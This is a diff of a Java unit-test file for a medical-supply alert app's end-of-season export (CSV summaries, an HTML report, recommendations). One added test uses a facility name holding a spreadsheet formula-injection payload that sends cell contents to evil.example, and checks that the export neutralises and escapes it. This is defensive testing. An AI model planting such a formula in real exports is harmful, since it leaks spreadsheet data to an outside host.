@@ -1,5 +1,6 @@
 package fr.vigie.app;
 
+import fr.vigie.adapter.retex.ReviewFiles;
 import fr.vigie.domain.AlertEvent;
 import fr.vigie.domain.AlertLevel;
 import fr.vigie.domain.DisruptionKind;
@@ -11,6 +12,7 @@ import fr.vigie.domain.SeriesKey;
 import fr.vigie.domain.Snapshot;
 import fr.vigie.domain.SupplyDisruptionEvent;
 import fr.vigie.domain.WatchlistEntry;
+import fr.vigie.domain.retex.DeviceHistory;
 import fr.vigie.port.SeasonArchive;
 import org.junit.jupiter.api.Test;
 
@@ -18,9 +20,12 @@ import java.io.ByteArrayOutputStream;
 import java.nio.charset.StandardCharsets;
 import java.time.Duration;
 import java.time.Instant;
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.TreeMap;
+import java.util.TreeSet;
 import java.util.function.Consumer;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
@@ -31,6 +36,8 @@ class RetexExportTest {
 
     static final Season SEASON = new Season(2025);
     static final Instant DAY0 = Instant.parse("2025-11-01T05:00:00Z");
+    /** A name a spreadsheet would run as a formula (issue 17). */
+    static final String HOSTILE_NAME = "=HYPERLINK(\"http://evil.example/?leak=\"&A1;\"Laboratoire X\")";
     static final WatchlistEntry FFP2 = SampleSeason.watchlist("season-a").stream()
             .filter(e -> e.deviceId().equals("FFP2")).findFirst().orElseThrow();
 
@@ -48,8 +55,8 @@ class RetexExportTest {
         }
 
         @Override
-        public List<WatchlistEntry> devices() {
-            return List.of(FFP2);
+        public List<DeviceHistory> watchlist() {
+            return List.of(DeviceHistory.of(FFP2));
         }
 
         @Override
@@ -79,19 +86,26 @@ class RetexExportTest {
 
     @Test
     void everySeriesIsExportedWithItsAlertsDisruptionsAndRegion() throws Exception {
-        Map<String, ByteArrayOutputStream> files = new TreeMap<>();
-        RetexExport.Result result = new RetexExport(new SmallSeason(List.of(new Facility("CH-BRE-08", null, "53", null),
-                new Facility("LABO-X", "Laboratoire X", null, null)))).export(SEASON, name -> files.computeIfAbsent(name, n -> new ByteArrayOutputStream()),
-                (done, total) -> { });
-        assertEquals(List.of("alerts.csv", "report.html", "snapshots.csv", "summary-devices.csv", "summary-regions.csv", "summary.csv"),
-                List.copyOf(files.keySet()));
-        assertEquals(new RetexExport.Result(2, 1, 11, 1, 1), result);
-        String summary = text(files, "summary.csv");
-        assertTrue(summary.contains("CH-BRE-08;53;Bretagne;FFP2;Appareil de protection respiratoire FFP2;14;7;8;0;"), summary);
-        assertTrue(summary.contains(";2;1;0;1;3\r\n"), "2 stock-out days, 1 stock-out, announced, 1 alert, 3 days ahead: " + summary);
+        Map<String, ByteArrayOutputStream> files = export();
+        List<String> expected = new ArrayList<>(RetexExport.TABLES);
+        expected.add(ReviewFiles.REPORT);
+        expected.add(RetexExport.PROPOSED_WATCHLIST);
+        assertEquals(new TreeSet<>(expected), files.keySet());
+        Map<String, String> bre = row(text(files, "summary.csv"), "CH-BRE-08");
+        assertEquals("\"53\"", bre.get("region"), "a region code stays text");
+        assertEquals("Bretagne", bre.get("region_name"));
+        assertEquals("2", bre.get("stockout_days"));
+        assertEquals("1", bre.get("stockouts"));
+        assertEquals("0", bre.get("stockouts_without_alert"));
+        assertEquals("1", bre.get("alerts_critical"));
+        assertEquals("0", bre.get("recoveries"));
+        assertEquals("3", bre.get("stockout_leads_days"), "announced 3 days ahead");
         assertTrue(text(files, "summary-regions.csv").contains("\r\n;Région inconnue;FFP2;"), "a facility without region is counted apart");
-        assertTrue(text(files, "alerts.csv").contains("SUPPLY_DISRUPTION;2025-11-03T05:00:00Z;FFP2;;;;;;;;;;;FFP2#2025-11-02;OPEN;"
-                + "2025-11-02T05:00:00Z;ALLOCATION;CH-BRE-08 LABO-X;;0,5\r\n"), text(files, "alerts.csv"));
+        assertTrue(text(files, "alerts.csv").contains("\r\n2025-11-03 06:00:00;Europe/Paris;CH-BRE-08;;\"53\";Bretagne;FFP2;CRITICAL;"),
+                "instants are local date-times a spreadsheet recognises: " + text(files, "alerts.csv"));
+        assertTrue(text(files, "disruptions.csv").contains("\r\n2025-11-03 06:00:00;Europe/Paris;FFP2;FFP2#2025-11-02;OPEN;"
+                + "2025-11-02 06:00:00;ALLOCATION;CH-BRE-08 LABO-X;;0,5\r\n"), text(files, "disruptions.csv"));
+        assertTrue(text(files, "snapshots.csv").startsWith("\uFEFFlocal_time;time_zone;facility_id;device_id;on_hand;"));
         String report = text(files, "report.html");
         assertTrue(report.contains("<title>tension nationale du 3 nov. 2025"), "the disruption is shaded on the curves");
         assertTrue(report.contains("1 établissement(s) en rupture"), "stock-out days are marked");
@@ -99,10 +113,88 @@ class RetexExportTest {
     }
 
     @Test
+    void aHostileFacilityNameIsNeutralisedInTheCsvAndEscapedInThePage() throws Exception {
+        Map<String, ByteArrayOutputStream> files = export();
+        String summary = text(files, "summary.csv");
+        assertTrue(summary.contains("LABO-X;\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1;\"\"Laboratoire X\"\")\";;"),
+                "a hostile facility name is neutralised, not run: " + summary);
+        assertTrue(text(files, "facilities.csv").contains("LABO-X;\"'=HYPERLINK("), text(files, "facilities.csv"));
+        assertTrue(text(files, "report.html").contains("=HYPERLINK(&quot;http://evil.example/"), "escaped in the page");
+    }
+
+    @Test
+    void aFacilityThatStoppedReportingIsSilentAndItsDaysAreUnknownNotFine() throws Exception {
+        Map<String, ByteArrayOutputStream> files = export();
+        // CH-BRE-08 reports from 1 to 8 November, LABO-X from 1 to 3: two missed days carry, the next three are unknown
+        Map<String, String> labo = row(text(files, "summary.csv"), "LABO-X");
+        assertEquals("2025-11-04", labo.get("silent_since"));
+        assertEquals("3", labo.get("days_reported"));
+        assertEquals("3", labo.get("days_unknown"));
+        assertEquals("0,38", labo.get("completeness"));
+        assertEquals("", row(text(files, "summary.csv"), "CH-BRE-08").get("silent_since"));
+        String report = text(files, "report.html");
+        assertTrue(report.contains("04/11/2025 (données inconnues depuis)"), "the report says since when it is silent");
+        assertTrue(report.contains("établissement(s) sans relevé (inconnu)"), "unknown days are marked on the curves");
+    }
+
+    @Test
+    void recommendationsHaveARowPerDeviceAndTheWhatIfItsGrid() throws Exception {
+        Map<String, ByteArrayOutputStream> files = export();
+        Map<String, String> ffp2 = row(text(files, "recommendations.csv"), "FFP2");
+        assertEquals("14", ffp2.get("current_warning_days"));
+        assertEquals("1", ffp2.get("stockouts"));
+        assertTrue(List.of("KEEP", "CHANGE", "SUPPLY").contains(ffp2.get("action")), ffp2.toString());
+        List<String> grid = text(files, "whatif.csv").lines().skip(1).toList();
+        assertTrue(grid.size() >= 9, "a grid of thresholds around today's: " + grid);
+        assertEquals(1, grid.stream().filter(l -> l.startsWith("FFP2;") && l.contains(";14;7;1;")).count(), "today's point is marked");
+    }
+
+    private static Map<String, ByteArrayOutputStream> export() throws Exception {
+        Map<String, ByteArrayOutputStream> files = new TreeMap<>();
+        RetexExport.Result result = new RetexExport(new SmallSeason(List.of(new Facility("CH-BRE-08", null, "53", null),
+                new Facility("LABO-X", HOSTILE_NAME, null, null)))).export(SEASON,
+                new ReviewFiles(name -> files.computeIfAbsent(name, n -> new ByteArrayOutputStream())), (done, total) -> { });
+        assertEquals(new RetexExport.Result(2, 1, 11, 1, 1), result);
+        return files;
+    }
+
+    /** The row of a CSV whose first cell is {@code key}, by column name (cells as written, quotes kept). */
+    static Map<String, String> row(String csv, String key) {
+        List<String> lines = csv.replace("\uFEFF", "").lines().toList();
+        String[] header = lines.get(0).split(";", -1);
+        String line = lines.stream().filter(l -> l.startsWith(key + ";")).findFirst().orElseThrow(() -> new AssertionError(key + " in " + csv));
+        List<String> cells = cells(line);
+        Map<String, String> out = new LinkedHashMap<>();
+        for (int i = 0; i < header.length; i++) {
+            out.put(header[i], cells.get(i));
+        }
+        return out;
+    }
+
+    private static List<String> cells(String line) {
+        List<String> out = new ArrayList<>();
+        StringBuilder cell = new StringBuilder();
+        boolean quoted = false;
+        for (char c : line.toCharArray()) {
+            if (c == '"') {
+                quoted = !quoted;
+            }
+            if (c == ';' && !quoted) {
+                out.add(cell.toString());
+                cell.setLength(0);
+            } else {
+                cell.append(c);
+            }
+        }
+        out.add(cell.toString());
+        return out;
+    }
+
+    @Test
     void aDatabaseWithoutRegistryWritesNothing() throws Exception {
         Map<String, ByteArrayOutputStream> files = new TreeMap<>();
         RetexExport.Result result = new RetexExport(new SmallSeason(List.of()))
-                .export(SEASON, name -> files.computeIfAbsent(name, n -> new ByteArrayOutputStream()), (done, total) -> { });
+                .export(SEASON, new ReviewFiles(name -> files.computeIfAbsent(name, n -> new ByteArrayOutputStream())), (done, total) -> { });
         assertTrue(result.empty());
         assertEquals(Map.of(), files);
     }
